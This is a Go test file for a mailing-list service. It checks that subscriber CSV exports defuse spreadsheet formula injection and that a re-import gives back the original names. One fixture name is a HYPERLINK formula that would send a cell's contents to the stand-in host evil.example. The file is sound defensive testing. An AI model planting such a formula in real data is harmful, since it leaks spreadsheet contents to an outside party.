package postgres_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"testing"

	"bulletin/internal/bulletin"
	"bulletin/internal/pgtest"
	"bulletin/internal/postgres"
)

func exportCSV(t *testing.T, db *postgres.DB, list string) string {
	t.Helper()
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	err := db.ExportSubscribers(context.Background(), list, func(e, n, s string) error { return w.Write([]string{e, n, s}) })
	w.Flush()
	if err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// Cells that a spreadsheet would run as formulas leave the export with a
// leading quote, and an import of the export gives back the same names
// and addresses.
func TestExportNeutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	db := pgtest.New(t)
	mustList(t, db, "a", true, false)
	mustList(t, db, "b", true, false)
	for _, s := range []struct{ email, name string }{
		{"ann@example.org", `=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"-bob@example.org", "+1 555"},
		{"cy@example.org", "-2+3"},
		{"dee@example.org", "@SUM(A1:A9)"},
		{"eve@example.org", "'=already quoted"},
		{"fay@example.org", "Fay = fine"},
	} {
		if _, err := db.Subscribe(ctx, bulletin.SubscribeRequest{List: "a", Email: s.email, Name: s.name, Method: bulletin.ConsentForm, Public: true}); err != nil {
			t.Fatal(err)
		}
	}
	want := "ann@example.org," + `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"` + ",active\n" +
		"'-bob@example.org,'+1 555,active\n" +
		"cy@example.org,'-2+3,active\n" +
		"dee@example.org,'@SUM(A1:A9),active\n" +
		"eve@example.org,''=already quoted,active\n" +
		"fay@example.org,Fay = fine,active\n"
	got := exportCSV(t, db, "a")
	if got != want {
		t.Fatalf("export:\n%s\nwant:\n%s", got, want)
	}
	// Importing the export elsewhere keeps every name and address as it was.
	res := importCSV(t, db, "b", "email,name,status\n"+got)
	if res.Imported != 6 || res.Created != 0 || res.Skipped != 0 {
		t.Fatalf("re-import: %+v", res)
	}
	if again := exportCSV(t, db, "b"); again != got {
		t.Fatalf("round trip:\n%s\nwant:\n%s", again, got)
	}
	found, _ := db.FindSubscribers(ctx, "-bob@example.org", 0, 1)
	if len(found) != 1 || found[0].Name != "+1 555" {
		t.Fatalf("bob after the round trip: %+v", found)
	}
}

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "x": "x", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx",
		"'=1": "''=1", "'x": "'x", "a=1": "a=1",
	} {
		if got := bulletin.CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
		if back := bulletin.UnCSVCell(bulletin.CSVCell(in)); back != in {
			t.Errorf("UnCSVCell(CSVCell(%q)) = %q", in, back)
		}
	}
}
